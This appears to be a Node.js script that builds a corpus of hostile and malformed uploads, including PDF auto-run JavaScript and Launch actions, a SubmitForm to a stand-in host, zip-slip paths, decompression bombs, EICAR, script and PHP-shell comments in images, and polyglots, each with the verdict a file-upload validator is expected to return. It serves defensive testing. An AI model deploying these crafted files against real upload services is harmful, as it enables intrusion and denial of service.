// node corpus.mjs FOLDER: files as attackers and broken cameras make them, each with what becomes of it: FOLDER/list has a line "NAME STATUS ERROR WORD…" each,
// the words standing in the reply. WORD "-": none.
import { writeFileSync } from 'node:fs';
import { crc32 as nodeCrc, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';

const folder = process.argv[2];
const list = [];
const file = (name, bytes, status, error, word = '-') => {
  writeFileSync(`${folder}/${name}`, bytes);
  list.push(`${name} ${status} ${error} ${word}`);
};
const b = (text) => Buffer.from(text, 'latin1');
const join = (...parts) => Buffer.concat(parts.map((p) => (typeof p === 'string' ? b(p) : p)));
const table = Array.from({ length: 256 }, (_, n) => {
  for (let k = 0; k < 8; k++) n = n & 1 ? 0xedb88320 ^ (n >>> 1) : n >>> 1;
  return n >>> 0;
});
const crc = (buf) => nodeCrc?.(buf) ?? (buf.reduce((c, x) => table[(c ^ x) & 255] ^ (c >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;
const u32 = (n) => Buffer.from([n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255]);
const u16 = (n) => Buffer.from([n >> 8, n & 255]);

// ---- PDF: objects in order, with a true table
function pdf(objects, { trailer = '', front = '%PDF-1.7\n' } = {}) {
  let body = b(front);
  const at = [];
  objects.forEach((o, i) => {
    at.push(body.length);
    body = join(body, `${i + 1} 0 obj\n`, o, '\nendobj\n');
  });
  const x = body.length;
  return join(body, `xref\n0 ${at.length + 1}\n0000000000 65535 f \n`, ...at.map((a) => `${String(a).padStart(10, '0')} 00000 n \n`), `trailer\n<< /Size ${at.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${x}\n%%EOF\n`);
}
const stream = (dict, data) => join(`<< ${dict} /Length ${data.length} >>\nstream\n`, data, '\nendstream');
const pages = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Contents 4 0 R >>'];
const text = stream('/Filter /FlateDecode', deflateSync(b('BT ET')));
const plain = (catalog = '', ...more) => [`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, ...pages, text, ...more];
const good = pdf(plain());
file('good.pdf', good, 201, '-');
file('script.pdf', pdf(plain('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>')), 415, 'MEDIA', 'JavaScript');
file('script-escaped.pdf', pdf(plain('/OpenAction << /S /J#61vaScrip#74 /JS (app.alert\\(1\\)) >>')), 415, 'MEDIA', 'JavaScript');
const packed = b('5 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>');
file('script-packed.pdf', pdf(plain('/OpenAction 5 0 R', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(packed)))), 415, 'MEDIA', 'JavaScript');
file('script-packed-twice.pdf', pdf(plain('/OpenAction 5 0 R', stream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', b(deflateSync(packed).toString('hex') + '>')))), 415, 'MEDIA', 'unusual');
file('script-far-off.pdf', pdf(plain('/OpenAction 5 0 R', stream(`/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /X (${'x'.repeat(9000)})`, deflateSync(packed)))), 415, 'MEDIA', 'PDF');
file('launch.pdf', pdf(plain('/OpenAction << /S /Launch /F (calc.exe) >>')), 415, 'MEDIA', 'program');
file('within.pdf', pdf(plain('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>', stream('/Type /EmbeddedFile', b('MZ')))), 415, 'MEDIA', 'files');
file('form.pdf', pdf(plain('/AcroForm << /XFA 5 0 R >>', stream('', b('<xdp/>')))), 415, 'MEDIA', 'XFA');
file('sends.pdf', pdf(plain('/OpenAction << /S /SubmitForm /F (http://hostile.example/) >>')), 415, 'MEDIA', 'sends');
file('locked.pdf', pdf(plain(), { trailer: '/Encrypt 5 0 R /ID [<00> <00>] ' }), 415, 'MEDIA', 'encryption');
file('grows.pdf', pdf([...plain(), stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(600 << 20), { level: 9 }))]), 422, 'BOMB', 'unpacks');
file('cut.pdf', good.subarray(0, good.length - 30), 415, 'MEDIA', 'only');
file('before.pdf', join('<script>alert(1)</script>', good), 415, 'MEDIA', 'only');

// ---- ZIP
function zip(entries) {
  const local = [];
  const central = [];
  let at = 0;
  for (const [name, data, method = 8] of entries) {
    const c = method ? deflateRawSync(data) : data;
    const head = Buffer.alloc(30);
    head.writeUInt32LE(0x04034b50, 0);
    head.writeUInt16LE(20, 4);
    head.writeUInt16LE(method, 8);
    head.writeUInt32LE(crc(data), 14);
    head.writeUInt32LE(c.length, 18);
    head.writeUInt32LE(data.length, 22);
    head.writeUInt16LE(Buffer.byteLength(name), 26);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    head.copy(dir, 6, 4, 30);
    dir.writeUInt32LE(at, 42);
    local.push(head, Buffer.from(name), c);
    central.push(dir, Buffer.from(name));
    at += 30 + Buffer.byteLength(name) + c.length;
  }
  const size = central.reduce((n, x) => n + x.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(size, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...local, ...central, end]);
}
const ofd = b('<?xml version="1.0"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>');
const eicar = b('X5O!P%@AP[4\\PZX54(P^)7CC)7}$' + 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE' + '!$H+H*');
let nested = zip([['a', b('x')]]);
for (let i = 0; i < 6; i++) nested = zip([['a.zip', nested, 0]]);
file('good.ofd', zip([['OFD.xml', ofd], ['Doc_0/Document.xml', b('<x/>')]]), 201, '-');
file('plain.zip', zip([['a.txt', b('x')]]), 415, 'MEDIA', 'application/zip');
file('slip.ofd', zip([['OFD.xml', ofd], ['../../etc/cron.d/x', b('x')]]), 415, 'MEDIA', 'leads');
file('slip-root.ofd', zip([['OFD.xml', ofd], ['/etc/x', b('x')]]), 415, 'MEDIA', 'leads');
file('slip-back.ofd', zip([['OFD.xml', ofd], ['..\\x', b('x')]]), 415, 'MEDIA', 'leads');
file('grows.ofd', zip([['OFD.xml', ofd], ['x', Buffer.alloc(300 << 20)]]), 422, 'BOMB', 'unpacks');
file('deep.ofd', zip([['OFD.xml', ofd], ['x.zip', nested, 0]]), 415, 'MEDIA', 'deep');
file('eicar.ofd', zip([['OFD.xml', ofd], ['x.txt', eicar]]), 415, 'MEDIA', 'EICAR');
file('map.ofd', zip([['OFD.xml', ofd], ['a.txt', b('{"type":"FeatureCollection","features":[]}')]]), 415, 'SPATIAL', 'GeoJSON');
file('many.ofd', zip([['OFD.xml', ofd], ...Array.from({ length: 10001 }, (_, i) => [`${i}`, b(''), 0])]), 415, 'MEDIA', 'many');
file('eicar.pdf', join(good.subarray(0, 9), '%', eicar, '\n', good.subarray(9)), 415, 'MEDIA', 'EICAR');
file('eicar.txt', eicar, 415, 'MEDIA', 'text/plain');
file('twofold.pdf', join(good, zip([['x.class', b('\xca\xfe\xba\xbe')]]), '\nstartxref\n0\n%%EOF\n'), 415, 'MEDIA', 'archive');
file('gzip.pdf', gzipSync(good), 415, 'MEDIA', 'octet-stream');

// ---- PNG
const chunk = (type, data) => join(u32(data.length), type, data, u32(crc(join(type, data))));
const head = (w, h) => chunk('IHDR', join(u32(w), u32(h), Buffer.from([8, 0, 0, 0, 0])));
const png = (w, h, ...more) => join('\x89PNG\r\n\x1a\n', head(w, h), ...more, chunk('IDAT', deflateSync(Buffer.alloc(Math.min(h, 9) * (Math.min(w, 9) + 1)))), chunk('IEND', Buffer.alloc(0)));
const picture = png(4, 4);
const broken = Buffer.from(picture);
broken[40] ^= 1;
file('good.png', picture, 201, '-', '"place_removed":false');
file('broken.png', broken, 415, 'MEDIA', 'damaged');
file('cut.png', picture.subarray(0, picture.length - 9), 415, 'MEDIA', 'only');
file('huge.png', png(2000000000, 2000000000), 422, 'BOMB', 'points');
file('wide.png', png(29000, 29000), 422, 'BOMB', 'points');
file('none.png', png(0, 4), 415, 'MEDIA', 'size');
file('script.png', png(4, 4, chunk('tEXt', b('Comment\0<ScRiPt>alert(1)</script>'))), 415, 'MEDIA', 'script');
file('twofold.png', join(picture, zip([['x', b('x')]])), 415, 'MEDIA', 'only');

// ---- Exif with a place (TIFF, either order of bytes)
function exif(little) {
  const n16 = (n) => (little ? Buffer.from([n & 255, n >> 8]) : u16(n));
  const n32 = (n) => (little ? Buffer.from(u32(n)).reverse() : u32(n));
  const entry = (tag, type, count, value) => join(n16(tag), n16(type), n32(count), value);
  const gps = 38;
  return join(little ? 'II' : 'MM', n16(42), n32(8), n16(2), entry(0x0112, 3, 1, join(n16(6), n16(0))), entry(0x8825, 4, 1, n32(gps)), n32(0), n16(2), entry(1, 2, 2, b('N\0\0\0')), entry(2, 5, 3, n32(gps + 30)), n32(0), n32(39), n32(1), n32(54), n32(1), n32(26), n32(1));
}
const xmp = b('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta xmlns:x="adobe:ns:meta/"><a exif:GPSLatitude="39,54.26N"/></x:xmpmeta>');
// ---- JPEG of eight by eight points
const segment = (marker, data) => join(Buffer.from([0xff, marker]), u16(data.length + 2), data);
const jpeg = (w, h, ...more) =>
  join('\xff\xd8', segment(0xe0, b('JFIF\0\x01\x01\0\0\x01\0\x01\0\0')), ...more, segment(0xdb, join('\0', Buffer.alloc(64, 1))), segment(0xc0, join('\x08', u16(h), u16(w), Buffer.from([1, 1, 0x11, 0]))), segment(0xc4, join('\0', Buffer.from([0, 1, ...Array(14).fill(0)]), '\0')), segment(0xc4, join('\x10', Buffer.from([0, 1, ...Array(14).fill(0)]), '\0')), segment(0xda, Buffer.from([1, 0, 0, 0, 63, 0])), '\x3f', '\xff\xd9');
const photo = jpeg(8, 8);
file('good.jpg', photo, 201, '-', '"place_removed":false');
file('place.jpg', jpeg(8, 8, segment(0xe1, join('Exif\0\0', exif(true)))), 201, '-', '"place_removed":true');
file('place-big.jpg', jpeg(8, 8, segment(0xe1, join('Exif\0\0', exif(false)))), 201, '-', '"place_removed":true');
file('place-xmp.jpg', jpeg(8, 8, segment(0xe1, xmp)), 201, '-', '"place_removed":true');
file('place.png', png(4, 4, chunk('eXIf', exif(true))), 201, '-', '"place_removed":true');
file('broken.jpg', join(photo.subarray(0, 20), '\xff\xdb\xff\xff', photo.subarray(40)), 415, 'MEDIA', 'damaged');
file('no-picture.jpg', join('\xff\xd8', segment(0xe0, Buffer.alloc(14)), '\xff\xd9'), 415, 'MEDIA', 'damaged');
file('cut.jpg', photo.subarray(0, photo.length - 2), 415, 'MEDIA', 'only');
file('huge.jpg', jpeg(65535, 65535), 422, 'BOMB', 'points');
file('script.jpg', jpeg(8, 8, segment(0xfe, b('*/<script>alert(1)</script>'))), 415, 'MEDIA', 'script');
file('php.jpg', jpeg(8, 8, segment(0xfe, b("<?php system('id'); ?>"))), 415, 'MEDIA', 'script');
file('twofold.jpg', join(photo.subarray(0, photo.length - 2), zip([['x', b('x')]]), '\xff\xd9'), 415, 'MEDIA', 'archive');

// ---- what is none of these, whatever it is called
file('drawing.svg', b('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'), 415, 'MEDIA', 'image/svg+xml');
file('svg-as.png', b('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 415, 'MEDIA', 'image/svg+xml');
file('page-as.pdf', b('<!doctype html><script>alert(1)</script>'), 415, 'MEDIA', 'text/html');
file('program-as.pdf', join('MZ', Buffer.alloc(200)), 415, 'MEDIA', 'x-msdownload');
file('elf-as.jpg', join('\x7fELF', Buffer.alloc(200)), 415, 'MEDIA', 'x-executable');
file('scan.tiff', join('II*\0', Buffer.from([8, 0, 0, 0, 0, 0, 0, 0, 0, 0])), 415, 'MEDIA', 'image/tiff');
file('move.gif', join('GIF89a', Buffer.alloc(20)), 415, 'MEDIA', 'image/gif');
file('letter.doc', join('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(500)), 415, 'MEDIA', 'msword');
file('jpeg-as.pdf', photo, 201, '-', 'image/jpeg');
file('empty.pdf', Buffer.alloc(0), 422, 'SCHEMA', 'empty');
file('zeros.pdf', Buffer.alloc(4096), 415, 'MEDIA', 'octet-stream');
// ---- what cameras hang behind a photograph is taken off at the portal; the gap takes none that still has it
const hung = (name, more) => file(name, join(photo, ...more), 201, '-', '"behind_removed":true');
hung('moving.jpg', ['\0\0\0\x18ftypmp42', Buffer.alloc(3000, 7)]);
hung('camera-notes.jpg', ['\0\0\x01\x0a\x0e\0\0\0Image_UTC_Data', 'SEFH', Buffer.alloc(24, 1), 'SEFT']);
hung('two-pictures.jpg', [photo]);
hung('zeros-behind.jpg', [Buffer.alloc(512)]);

// ---- spatial data: each format as it is, renamed, packed, packed twice, in a document, in a PDF's stream plain and packed, in a PDF within a document
const at = (bytes, offset, size = 100) => {
  const out = Buffer.alloc(size);
  bytes.copy(out, offset);
  return out;
};
const over = (base, bytes, offset) => {
  bytes.copy(base, offset);
  return base;
};
const spatial = {
  GeoJSON: b('{"type":"FeatureCollection","features":[{"type":"Feature","geometry":{"type":"Point","coordinates":[116.4,39.9]}}]}'),
  TopoJSON: b('{"type":"Topology","arcs":[[[0,0],[1,1]]],"objects":{}}'),
  'Esri JSON': b('{"rings":[[[0,0],[1,1],[1,0],[0,0]]],"spatialReference":{"wkid":4490}}'),
  KML: b('<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document/></kml>'),
  GML: b('<?xml version="1.0"?><ogr:FeatureCollection xmlns:gml="http://www.opengis.net/gml"/>'),
  GPX: b('<?xml version="1.0"?><gpx version="1.1"><wpt lat="39.9" lon="116.4"/></gpx>'),
  shapefile: over(at(Buffer.from([0, 0, 0x27, 0x0a]), 0), Buffer.from([0xe8, 3, 0, 0]), 28),
  GeoPackage: over(at(b('SQLite format 3\0'), 0), b('GPKG'), 68),
  SQLite: at(b('SQLite format 3\0'), 0),
  DXF: b('  0\r\nSECTION\r\n  2\r\nHEADER\r\n  9\r\n$ACADVER\r\n'),
  DWG: join('AC1032', Buffer.alloc(100)),
  'MapInfo TAB': b('!table\n!version 300\n!charset WindowsSimpChinese\n'),
  'MapInfo MIF': b('VERSION 300\nDelimiter ","\nCoordSys Earth Projection 1, 0\nColumns 1\n'),
  'ArcInfo E00': b('EXP  0 /PARCEL.E00\nARC  2\n'),
  VCT: b('HeadBegin\nDataMark:CNSDTF-VCT\nVersion:1.0\n'),
  WKT: b('POLYGON((116.4 39.9,116.5 39.9,116.5 40.0,116.4 39.9))'),
  FlatGeobuf: join('fgb\x03fgb\0', Buffer.alloc(60)),
  GeoTIFF: Buffer.from([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0, 1, 0, 0xaf, 0x87, 3, 0, 4, 0, 0, 0, 0, 0, 0, 0]),
  LAS: join('LASF', Buffer.alloc(100)),
  HDF: join('\x89HDF\r\n\x1a\n', Buffer.alloc(60))
};
Object.entries(spatial).forEach(([format, bytes], i) => {
  const said = format.split(' ')[0];
  const n = String(i).padStart(2, '0');
  const refused = (kind, content) => file(`map-${n}-${kind}`, content, 415, 'SPATIAL', said);
  refused('itself', bytes);
  refused('renamed.pdf', bytes);
  refused('zip.jpg', zip([['photo.jpg', bytes]]));
  refused('twice.png', zip([['inner.zip', zip([['photo.jpg', bytes]]), 0]]));
  refused('gzip.pdf', gzipSync(bytes));
  refused('document.ofd', zip([['OFD.xml', ofd], ['Doc_0/Res/image_1.png', bytes]]));
  refused('stream.pdf', pdf(plain('', stream('', bytes))));
  refused('packed.pdf', pdf(plain('', stream('/Filter /FlateDecode', deflateSync(bytes)))));
  file(`map-${n}-within.ofd`, zip([['OFD.xml', ofd], ['Doc_0/a.pdf', pdf(plain('', stream('', bytes)))]]), 415, 'SPATIAL', 'PDF');
});
file('parcel.dgn', Buffer.alloc(64, 8), 415, 'SPATIAL', 'DGN');
file('map-geo.pdf', pdf(plain('/VP [ << /Measure << /Type /Measure /Subtype /GEO /GPTS [0 0 1 1] >> >> ]')), 415, 'SPATIAL', 'GeoPDF');
file('map-geo-escaped.pdf', pdf(plain('/VP [ << /Measure << /Subtype /GEO /G#50TS [0 0 1 1] >> >> ]')), 415, 'SPATIAL', 'GeoPDF');
file('map-geo-packed.pdf', pdf(plain('', stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(b('5 0 << /Measure << /Subtype /GEO /GPTS [0 0 1 1] >> >>'))))), 415, 'SPATIAL', 'GeoPDF');
file('measure.pdf', pdf(plain('/VP [ << /Measure << /Subtype /RL /R (1:500) >> >> ]')), 201, '-');
writeFileSync(`${folder}/list`, list.join('\n') + '\n');
